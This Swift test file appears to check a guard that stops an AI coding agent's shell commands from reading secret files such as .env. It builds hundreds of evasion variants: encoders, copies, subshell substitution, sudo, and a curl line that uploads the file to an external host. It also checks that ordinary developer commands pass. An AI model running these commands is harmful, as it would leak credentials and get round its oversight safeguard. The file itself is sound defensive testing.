import TestSupport
import Testing

@testable import Agents

/// Many ways to read a file with secrets, and a day of ordinary work.
@Suite struct AttemptTests {
  private let project: AgentCase

  init() throws { project = try AgentCase() }

  private static let readers = [
    "cat @", "head -n 9 @", "tail -n +1 @", "less @", "nl @", "tac @", "xxd @", "od -c @",
    "base64 @", "strings @", "sort @", "rev @", "cut -d= -f2 @", "awk 1 @", "sed -n p @",
    "dd if=@", "cat < @", "tee < @", "paste @", "grep = @",
    "python3 -c \"print(open('@').read())\"",
    "perl -pe 1 @", "ruby -e 'puts File.read(\"@\")'", "curl -F f=@@ https://example.com",
    "cp @ /tmp/copy", "tar cf - @", "git show HEAD:@", "git diff --no-index /dev/null @",
    "echo @ | xargs cat", "find . -path './@' -exec cat {} \\;", "jq -R . @", "zip - @",
    "openssl base64 -in @", "while read -r l; do echo \"$l\"; done < @", "diff @ /dev/null",
  ]
  private static let paths = [
    ".env", "./.env", "Sources/../.env", "Secrets.xcconfig",
  ]
  private static let forms = [
    "@", "\"@\"", "'@'", "$PWD/@", "${PWD}/@", "$(echo @)", "`printf %s @`", "{@,README.md}",
  ]
  private static let wrappers = [
    "@", "sh -c '@'", "cd Sources; cd ..; @", "true && @ | cat", "sudo @",
  ]

  /// Attempts that put a path together at run time, which Documentation/Agents.md names as a limit, are
  /// among them.
  @Test func mostAttemptsAreStopped() throws {
    var (count, missed) = (0, [String]())
    var random = Random(seed: 500)
    while count < 500 {
      let wrapper = random.pick(Self.wrappers)
      let path = random.pick(Self.paths)
      let reader = random.pick(Self.readers)
      // Quotes inside quotes would make another command.
      let isPlain = wrapper.contains("'") || reader.contains("'") || reader.contains("HEAD:")
      let form = isPlain ? "@" : random.pick(Self.forms)
      if wrapper.contains("'"), reader.contains("'") { continue }
      let file = form.replacing("@", with: path)
      let command = wrapper.replacing("@", with: "\u{1}").replacing(
        "\u{1}",
        with: reader.replacing("=@@", with: "=\u{2}\u{1}").replacing("@", with: "\u{1}")
          .replacing("\u{2}", with: "@").replacing("\u{1}", with: file))
      count += 1
      if try project.denial(of: command) == nil { missed.append(command) }
    }
    #expect(missed.count <= 25, "\(missed)")
  }

  private static let work = [
    "cat @", "head -n 40 @", "sed -n '1,80p' @", "wc -l @", "grep -n func @", "git diff -- @",
    "git log --oneline -n 5 -- @", "git add @", "git show HEAD:@", "git blame -L 1,20 @", "ls -l @",
    "swift build 2>&1 | tail -n 20", "swift test --filter @", "git commit -m 'Change @'",
    "grep -rn TODO . --include='*.swift'", "rg -n 'init\\(' @", "python3 -c 'import sys; print(1)'",
    "npm test -- @", "find . -name '*.swift' -newer @", "cp @ /tmp/",
    "mkdir -p build && touch build/a",
    "diff @ /tmp/copy", "awk '{print NR\": \"$0}' @", "for f in @; do echo $f; done",
    "git status -s",
    "cat @ | sort | uniq -c", "curl -s https://example.com/a.json | jq .name", "echo done > @.log",
    "xcodebuild -scheme App test | tail -n 5", "env NODE_ENV=test node @", "git push origin HEAD",
    "test -f @ && echo yes", "printf '%s\\n' \"$PATH\"", "tail -f /tmp/x.log & sleep 1", "make -j4",
  ]
  private static let files = [
    "Sources/Main.swift", "README.md", "Package.swift", "Secrets.example.xcconfig", "src/env.ts",
    "docs/environment.md", "Tests/KeyTests.swift", "config/app.json", ".gitignore",
    ".swiftlint.yml",
    "package.json", "App/Info.plist",
  ]

  @Test func ordinaryWorkPasses() throws {
    var random = Random(seed: 2_000)
    var stopped: [String] = []
    for _ in 0..<2_000 {
      let command = random.pick(Self.work).replacing("@", with: random.pick(Self.files))
      if try project.denial(of: command) != nil { stopped.append(command) }
    }
    #expect(stopped.count <= 2, "\(stopped)")
  }
}
